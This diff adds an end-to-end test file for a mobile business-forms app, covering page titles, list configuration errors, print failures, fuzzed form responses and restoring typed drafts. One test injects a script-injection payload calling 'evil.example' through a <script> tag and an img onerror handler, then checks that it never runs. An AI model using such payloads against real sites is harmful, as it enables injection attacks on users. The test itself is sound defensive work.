@@ -1,0 +1,193 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { addressOf } from '#presentation/routes/addresses.ts';
+import { anyRecord, anyWire } from '#test/support/forms/oddForms.ts';
+import { keeperOf } from '#test/support/records.ts';
+import type { Phone } from './support/phone.ts';
+import { look, openRecord, told } from './support/record.ts';
+import { button, field } from './support/request.ts';
+import { openSite } from './support/site.ts';
+import { wordsIn } from './support/words.ts';
+import { WAYS_OF_RUN } from './support/ways.ts';
+
+/** So many of each kind of fault come by themselves. */
+const ODD_FORMS = 200;
+const site = openSite({ hasObjects: true });
+
+const keeper = async (account: string) => keeperOf(await site.colleague(account));
+const windowTitle = ({ page }: Phone) => expect.poll(() => page.title());
+
+/** Another answer than our server's: what another platform sends where somebody has forgotten something. */
+async function answeredOtherwise<Answer extends object>(
+  { page }: Phone,
+  path: string,
+  change: (answer: Answer) => Answer,
+): Promise<void> {
+  await page.route(path, async (route) => {
+    await route.fulfill({ json: change((await (await route.fetch()).json()) as Answer) });
+  });
+}
+
+interface ListAnswer {
+  readonly data: Readonly<Record<string, string>>;
+}
+interface FormAnswer {
+  readonly buttons: string;
+  readonly prints: readonly { readonly id: string; readonly name: string; readonly type: string }[];
+}
+const PRINT = { name: 'Print it', type: 'print', method: 'print' };
+const withPrintButton = (answer: FormAnswer): FormAnswer => ({
+  ...answer,
+  buttons: JSON.stringify([...(JSON.parse(answer.buttons) as readonly object[]), PRINT]),
+});
+
+/** Everything the device has in its databases, as text. */
+const keptOnDevice = ({ page }: Phone): Promise<string> =>
+  page.evaluate(async () => {
+    const answerOf = <T>(asked: IDBRequest<T>) =>
+      new Promise<T>((resolve, reject) => {
+        asked.onsuccess = () => resolve(asked.result);
+        asked.onerror = () => reject(asked.error ?? new Error('nothing was read'));
+      });
+    const found: unknown[] = [];
+    for (const { name = '' } of await indexedDB.databases()) {
+      const opened = await answerOf(indexedDB.open(name));
+      for (const store of opened.objectStoreNames)
+        found.push(await answerOf(opened.transaction(store).objectStore(store).getAll()));
+      opened.close();
+    }
+    return JSON.stringify(found);
+  });
+
+/** Another page of the app, without a load: as a link in it leads there. */
+const follow = ({ page }: Phone, address: string) =>
+  page.evaluate((to) => {
+    history.pushState(null, '', `/mobile${to}`);
+    dispatchEvent(new PopStateEvent('popstate', { state: null }));
+  }, address);
+
+describe.each(WAYS_OF_RUN)('in $language, $theme', (way) => {
+  it('a list of the company has the name of its page in the window, a form and a list their own', async () => {
+    const phone = await site.phone({ ...way, account: 'hepeng' });
+    const { t, company } = phone.words;
+    await phone.open(addressOf('businessLists'));
+    await windowTitle(phone).toBe(t('page.businessLists'));
+    await openRecord(phone, { alias: 'asset' });
+    await windowTitle(phone).toBe(company('Asset'));
+    await phone.open(addressOf('customList', { alias: 'asset' }));
+    await phone.page.getByRole('heading', { level: 1, name: company('Assets') }).waitFor();
+    await look(phone, 'customList');
+    await phone.open(addressOf('cardLayout', { key: 'assets' }));
+    await phone.page.getByRole('listitem').first().waitFor();
+    await windowTitle(phone).toBe(t('page.cardLayout'));
+  });
+
+  it('a list whose incoming parameters nobody has configured says so, and asks for no data', async () => {
+    const phone = await site.phone({ ...way, account: 'hepeng' });
+    await answeredOtherwise<ListAnswer>(phone, '**/formBoList/assets/dialog*', ({ data, ...answer }) => ({
+      ...answer,
+      data: { ...data, searchJson: JSON.stringify([{ type: 'income', fieldName: 'deptId', autoFilter: 'NO' }]) },
+    }));
+    const asked: string[] = [];
+    phone.page.on('request', (request) => asked.push(request.url()));
+    await phone.open(addressOf('businessList', { key: 'assets' }));
+    await told(phone, phone.words.t('validation.demand.incomingParameters'));
+    await look(phone, 'income');
+    expect(asked.filter((url) => url.includes('getData'))).toEqual([]);
+  });
+
+  it('a record whose template nobody has bound is not printed, and says why; a failure is told by its kind', async () => {
+    const hepeng = await keeper('hepeng');
+    const pk = await hepeng.save({ code: `IT-${way.language}`, name: 'Scanner' }, 'asset');
+    const phone = await site.phone({ ...way, account: 'hepeng' });
+    const { page, words } = phone;
+    const { t } = words;
+    const forms = '**/formSolution/getMobileByAlias*';
+    await answeredOtherwise<FormAnswer>(phone, forms, (answer) => ({ ...withPrintButton(answer), prints: [] }));
+    await openRecord(phone, { alias: 'asset', pk });
+    await button(phone, PRINT.name).click();
+    await told(phone, t('message.noPrintTemplate'));
+    await look(phone, 'noTemplate');
+
+    await page.unroute(forms);
+    await answeredOtherwise<FormAnswer>(phone, forms, withPrintButton);
+    await page.route('**/formPrint/**', (route) =>
+      route.fulfill({ json: { success: false, message: '', reason: 'print.pdf', code: 500, show: false } }),
+    );
+    await openRecord(phone, { alias: 'asset', pk });
+    await button(phone, PRINT.name).click();
+    await told(phone, t('message.generatePdf'));
+    await look(phone, 'noPdf');
+  });
+});
+
+it('program text of a form is not run, and asks nobody', async () => {
+  const phone = await site.phone({ account: 'zhangwei', language: 'en-US' });
+  const { page } = phone;
+  const evil = 'window.hacked = 1; fetch("//evil.example/x")';
+  await answeredOtherwise<FormAnswer & { readonly script: string; readonly template: string }>(
+    phone,
+    '**/formSolution/getMobileByAlias*',
+    (answer) => ({
+      ...answer,
+      script: JSON.stringify({ ...(JSON.parse(answer.script) as object), formJs: evil, mobileJs: evil }),
+      template: JSON.stringify({
+        ...(JSON.parse(answer.template) as object),
+        mobileHtml: `<script>${evil}</script><img src=x onerror='${evil}'>`,
+      }),
+    }),
+  );
+  const elsewhere: string[] = [];
+  page.on('request', (request) => void (request.url().includes('evil.example') && elsewhere.push(request.url())));
+  await openRecord(phone, { alias: 'tool' });
+  await field(phone, 'Title').fill('Saw');
+  await phone.settled();
+  expect([await page.evaluate('window.hacked'), elsewhere]).toEqual([undefined, []]);
+});
+
+it('whatever a form and its record are, the page draws them or says why it does not', async () => {
+  const phone = await site.phone({ account: 'zhangwei', language: 'en-US' });
+  const { page } = phone;
+  const odd = fc.sample(fc.tuple(anyWire, anyRecord), { numRuns: ODD_FORMS, seed: 20_261_124 });
+  await page.route('**/formSolution/getMobileByAlias*', async (route) => {
+    const at = Number(new URL(route.request().url()).searchParams.get('pk'));
+    const answer = (await (await route.fetch()).json()) as object;
+    const [wire, data] = odd[at] ?? [{}, {}];
+    await route.fulfill({ json: at === 0 ? answer : { ...answer, ...wire, data, name: `Odd ${at}` } });
+  });
+  const errors: string[] = [];
+  page.on('console', (message) => void (message.type() === 'error' && errors.push(message.text())));
+  page.on('pageerror', (error) => void errors.push(error.message));
+  await openRecord(phone, { alias: 'tool' });
+  for (let at = 1; at < ODD_FORMS; at += 1) {
+    await follow(phone, addressOf('customForm', { alias: 'tool', pk: String(at) }));
+    // The form by its name, or a sentence that says what is wrong with it.
+    await page.waitForFunction(
+      (name) =>
+        document.querySelector('h1')?.textContent === name || document.querySelector('main [role="alert"], main h2'),
+      `Odd ${at}`,
+    );
+    expect(errors, JSON.stringify(odd[at])).toEqual([]);
+  }
+});
+
+it('what was typed is there the next day and in another language, beside the day that stands there by then', async () => {
+  let today = '2026-11-23';
+  const phone = await site.phone({ account: 'zhangwei', language: 'en-US' });
+  const { page, context } = phone;
+  await answeredOtherwise<{ readonly data: object }>(phone, '**/formSolution/getMobileByAlias*', (answer) => ({
+    ...answer,
+    data: { ...answer.data, until: today },
+  }));
+  await openRecord(phone, { alias: 'loan' });
+  await field(phone, 'Title').fill('Half a drill');
+  await expect.poll(() => keptOnDevice(phone)).toContain('Half a drill');
+  today = '2026-11-24';
+  await context.addInitScript(() => localStorage.setItem('ringi.language', 'ja-JP'));
+  await page.reload();
+  const { t, company } = wordsIn('ja-JP');
+  await page.getByText(t('form.restored')).waitFor();
+  const typed = page.getByLabel(company('Title'));
+  await expect.poll(() => typed.inputValue()).toBe('Half a drill');
+  await expect.poll(() => page.locator('input[type="date"]').inputValue()).toBe('2026-11-24');
+});
